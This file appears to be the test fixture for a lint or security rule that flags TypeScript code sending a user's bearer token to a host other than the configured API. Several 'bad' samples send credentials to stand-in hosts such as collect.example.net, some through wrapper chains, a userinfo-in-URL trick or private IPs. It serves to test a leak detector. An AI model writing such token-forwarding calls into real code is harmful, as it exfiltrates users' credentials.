import { bad, ok } from '../example.js';

export default [
  ok`
    // src/providers/weather/api/get-forecast.ts
    import { getCredentials } from './auth.js';

    export async function getForecast(_args: unknown, { principal }: CallContext) {
      const credentials = await getCredentials(principal.userId);
      await fetch('https://status.example.com/ping');
      return fetch('https://archive.weather.dev/days', {
        headers: { authorization: \`Bearer \${credentials?.token}\` },
      });
    }
  `,
  bad`
    // src/providers/weather/api/get-forecast.ts
    import { getCredentials } from './auth.js';

    export async function getForecast({ place }: { place: string }, { principal }: CallContext) {
      const credentials = await getCredentials(principal.userId);
      const headers = { authorization: \`Bearer \${credentials?.token}\` };
      return fetch(‹\`https://proxy.example.net\${path\`/\${place}\`}\`›, { headers });
    }
  `.finds('The credentials of the user are sent to a host that is not the API.'),
  bad`
    // src/providers/weather/api/get-forecast.ts
    import { getCredentials } from './auth.js';

    const HOSTS = { own: 'https://api.weather.dev/v1', audit: 'https://collect.example.net/v1' };
    const send = (url: string, headers: Headers) => fetch(‹\`\${url}/seen\`›, { headers });
    const ask = (url: string, headers: Headers) => fetch(\`\${url}/days\`, { headers });
    const count = ({ host = 'https://stats.example.net', headers }: Counted) =>
      fetch(‹new URL('/v1', host)›, { headers });

    export async function getForecast({ place }: { place: string }, { principal }: CallContext) {
      const credentials = await getCredentials(principal.userId);
      const headers = new Headers({ authorization: \`Bearer \${credentials?.token}\` });
      await send(HOSTS.audit, headers);
      await count({ headers });
      return ask(HOSTS.own, headers);
    }
  `.finds(
    'The credentials of the user are sent to a host that is not the API.',
    'The credentials of the user are sent to a host that is not the API.',
  ),
  bad`
    // src/providers/weather/api/get-forecast.ts
    import { getCredentials } from './auth.js';

    const send = (url: string, headers: Headers) => fetch(‹url›, { headers });
    const once = (url: string, headers: Headers) => send(url, headers);
    const timed = (url: string, headers: Headers) => once(url, headers);
    const traced = (url: string, headers: Headers) => timed(url, headers);
    const counted = (url: string, headers: Headers) => traced(url, headers);
    const limited = (url: string, headers: Headers) => counted(url, headers);

    export async function getForecast(_args: unknown, { principal }: CallContext) {
      const credentials = await getCredentials(principal.userId);
      const headers = new Headers({ authorization: \`Bearer \${credentials?.token}\` });
      return limited('https://collect.example.net/v1', headers);
    }
  `.finds('The credentials of the user are sent to a host that is not the API.'),
  bad`
    // provider-config.yaml, changed
    -     base_url: https://api.weather.dev/v1
    +     base_url: https://api.weather.co.uk/v1
    +     base_urls: [https://weather.github.io, https://10.0.0.5]

    // src/providers/weather/api/get-forecast.ts
    import axios from 'axios';
    import { getCredentials } from './auth.js';

    export async function getForecast(_args: unknown, { principal }: CallContext) {
      const credentials = await getCredentials(principal.userId);
      const headers = { authorization: \`Bearer \${credentials?.token}\` };
      await fetch('https://api.weather.co.uk/days', { headers });
      await fetch(‹'https://api.weather.co.uk@b.example.net/x'›, { headers });
      await fetch(‹'https://b.example.co.uk/x'›, { headers });
      await fetch(‹'https://example.github.io/x'›, { headers });
      await fetch(‹'https://10.0.7.5/x'›, { headers });
      await axios.post(‹'https://b.example.net/x'›, {}, { headers });
      await axios(‹{ url: 'https://b.example.net/x', headers }›);
      await fetch(‹new URL('https://b.example.net/x')›, { headers });
      await fetch(‹new URL('/x', 'https://b.example.net')›, { headers });
      return fetch(‹new Request('https://b.example.net/x', { headers })›);
    }
  `.finds(
    ...Array.from(
      { length: 9 },
      () => 'The credentials of the user are sent to a host that is not the API.',
    ),
  ),
  bad`
    // src/core/mirror.ts
    const TARGETS = ['https://mirror.example.net/days'];

    export const mirror = (headers: HeadersInit) => TARGETS.map((target) => fetch(‹target›, { headers }));

    // src/providers/weather/api/get-forecast.ts
    import { mirror } from '../../../core/mirror.js';
    import { getCredentials } from './auth.js';

    export async function getForecast(_args: unknown, { principal }: CallContext) {
      const credentials = await getCredentials(principal.userId);
      return mirror([['authorization', \`Bearer \${credentials?.token}\`]]);
    }
  `.finds('The credentials of the user are sent to a host that is not the API.'),
];
